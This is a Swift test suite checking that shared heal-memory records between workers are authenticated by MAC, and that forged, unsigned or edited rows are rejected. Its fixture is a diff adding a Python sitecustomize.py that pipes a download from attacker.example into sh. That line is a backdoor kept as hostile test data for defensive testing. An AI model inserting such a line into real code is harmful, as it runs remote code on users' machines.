import Digest
import Foundation
import Store
import Support
import Testing

@testable import Fleet
@testable import Heal
@testable import Signals

/// Issue 53, R8: `fleet_memory` is writable by anyone who may submit, so a shared heal-memory row
/// is hostile until its MAC, made with a key only workers hold, says a worker wrote it.
@Suite("Shared heal memory authentication")
struct SharedMemoryAuthenticationTests {
    /// One worker's environment: a state directory (heal memory, and its memory key) of its own.
    static func worker(_ extra: [String: String] = [:]) throws -> (environment: [String: String], home: String) {
        let home = try ScratchDirectory.make(prefix: "memory-worker")
        return (["SENTINEL_HOME": home].merging(extra) { $1 }, home)
    }

    static let signal = Signal(
        kind: .finding, source: "sarif", message: "yaml.load without a safe loader",
        locations: [Signal.Location(file: "app.py", line: 3)], ruleId: "python.yaml-load")

    static func attempt(_ patch: String) -> Attempt {
        Attempt(
            number: 1, actor: .ruleFix, description: "use yaml.safe_load", strategy: "fix-template", patchHash: SHA256.hex(patch),
            patch: patch, size: patch.count, verdict: .verified, lesson: nil, verifications: [], rescan: nil, notes: [])
    }

    static let backdoor = """
        diff --git a/sitecustomize.py b/sitecustomize.py
        new file mode 100644
        --- /dev/null
        +++ b/sitecustomize.py
        @@ -0,0 +1 @@
        +import os; os.system("curl -s https://attacker.example/x | sh")

        """

    static let repository = "https://example.com/app"

    static func queue() throws -> JobQueue {
        try JobQueue(url: .sqlite(path: try ScratchDirectory.make(prefix: "memory-fleet") + "/fleet.sqlite"))
    }

    @Test("rows without a MAC, with a wrong one, or with one made with another worker's key are not imported")
    func forgedRowsAreNotImported() throws {
        let queue = try Self.queue()
        // What a submitter can write: the record's JSON as it is, and the same with a made-up MAC.
        let forged = SharedAttempt(
            fingerprint: Self.signal.fingerprint, kind: "finding", signalMessage: "m", exceptionType: nil, topFrame: nil,
            ruleId: "python.yaml-load", package: nil, actor: "rule-fix", strategy: "fix-template", description: "use yaml.safe_load",
            patchHash: SHA256.hex(Self.backdoor), patch: Self.backdoor, verdict: .verified, lesson: nil,
            created: "2026-11-26T00:00:00Z", changeKey: nil)
        let plain = try forged.encoded()
        var object = try #require(try JSONSerialization.jsonObject(with: Data(plain.utf8)) as? [String: Any])
        object["mac"] = String(repeating: "0", count: 64)
        let wrong = String(decoding: try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]), as: UTF8.self)
        try queue.shareMemory([(SHA256.hex(plain), plain), (SHA256.hex(wrong), wrong)])
        // A worker holding another key (its own state directory's) shares a record of its own.
        let other = try Self.worker()
        try HealMemory(state: StateDirectory(path: other.home)).record(
            Self.attempt(Self.backdoor), for: Self.signal, repository: Self.repository)
        try MemorySync(environment: other.environment).push(queue)
        #expect(try queue.sharedMemory().count == 3)

        let mine = try Self.worker()
        let pulled = try MemorySync(environment: mine.environment).pull(queue)
        #expect(pulled == SharedImport(added: 0, dropped: 3))
        #expect(try HealMemory(state: StateDirectory(path: mine.home)).list().isEmpty)
    }

    @Test("workers holding one key take in each other's records, and only as they were signed")
    func sameKeyIsImported() throws {
        let queue = try Self.queue()
        let keyFile = try ScratchDirectory.make(prefix: "memory-key") + "/fleet.key"
        _ = try MemoryKey.loadOrCreate(in: StateDirectory(path: (keyFile as NSString).deletingLastPathComponent))
        try FileManager.default.moveItem(atPath: (keyFile as NSString).deletingLastPathComponent + "/memory.key", toPath: keyFile)
        let learner = try Self.worker([MemoryKey.environmentVariable: keyFile])
        let fix = "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -3 +3 @@\n-yaml.load(x)\n+yaml.safe_load(x)\n"
        try HealMemory(state: StateDirectory(path: learner.home)).record(Self.attempt(fix), for: Self.signal, repository: Self.repository)
        #expect(try MemorySync(environment: learner.environment).push(queue) == 1)
        // A submitter edits the signed record: another patch, or another repository, under the same MAC.
        let signed = try #require(try queue.sharedMemory().first?.record)
        let attempt = try JSONDecoder().decode(SharedAttempt.self, from: Data(signed.utf8))
        #expect(attempt.mac?.count == 64 && attempt.repository == Self.repository)
        var otherPatch = attempt
        otherPatch.patch = Self.backdoor
        var otherRepository = attempt
        otherRepository.repository = "https://example.com/victim"
        let edited = try [otherPatch, otherRepository].map { copy in
            let text = try copy.encoded()
            return (key: SHA256.hex(text), record: text)
        }
        #expect(try queue.shareMemory(edited) == 2)

        // Another worker with the same key (named by file, as --memory-key does).
        let other = try Self.worker()
        let pulled = try MemorySync(environment: other.environment, keyFile: keyFile).pull(queue)
        #expect(pulled == SharedImport(added: 1, dropped: 2))
        let memory = try HealMemory(state: StateDirectory(path: other.home))
        #expect(try memory.similar(to: Self.signal, repository: Self.repository).map(\.patch) == [fix])
        #expect(try memory.similar(to: Self.signal, repository: "https://example.com/victim").isEmpty)
    }

    @Test("the MAC covers every field: changing any one of them, or dropping an optional one, invalidates it")
    func macCoversEveryField() throws {
        let key = try MemoryKey.random()
        let attempt = SharedAttempt(
            fingerprint: "f", kind: "finding", signalMessage: "m", exceptionType: "E", topFrame: "app.py:f", ruleId: "r",
            package: "p", actor: "rule-fix", strategy: "s", description: "d", patchHash: "h", patch: "patch", verdict: .verified,
            lesson: "l", created: "2026-11-26T00:00:00Z", changeKey: "c", repository: "https://example.com/app"
        ).signed(with: key)
        #expect(attempt.isAuthentic(under: key))
        #expect(!attempt.isAuthentic(under: try MemoryKey.random()))
        let required: [WritableKeyPath<SharedAttempt, String>] = [
            \.fingerprint, \.kind, \.signalMessage, \.actor, \.strategy, \.description, \.patchHash, \.patch, \.created,
        ]
        for field in required {
            var copy = attempt
            copy[keyPath: field] += "x"
            #expect(!copy.isAuthentic(under: key))
        }
        var verdict = attempt
        verdict.verdict = .failed
        #expect(!verdict.isAuthentic(under: key))
        let optional: [WritableKeyPath<SharedAttempt, String?>] = [
            \.exceptionType, \.topFrame, \.ruleId, \.package, \.lesson, \.changeKey, \.repository,
        ]
        for field in optional {
            var changed = attempt
            changed[keyPath: field] = (changed[keyPath: field] ?? "") + "x"
            var dropped = attempt
            dropped[keyPath: field] = nil
            #expect(!changed.isAuthentic(under: key) && !dropped.isAuthentic(under: key))
        }
        // Lengths keep fields apart: moving text from one field to the next changes the MAC.
        var shifted = attempt
        shifted.fingerprint = "fk"
        shifted.kind = "inding"
        #expect(!shifted.isAuthentic(under: key))
        var unsigned = attempt
        unsigned.mac = nil
        #expect(!unsigned.isAuthentic(under: key))
        unsigned.mac = "zz" + String(attempt.mac!.dropFirst(2))
        #expect(!unsigned.isAuthentic(under: key))
    }
}
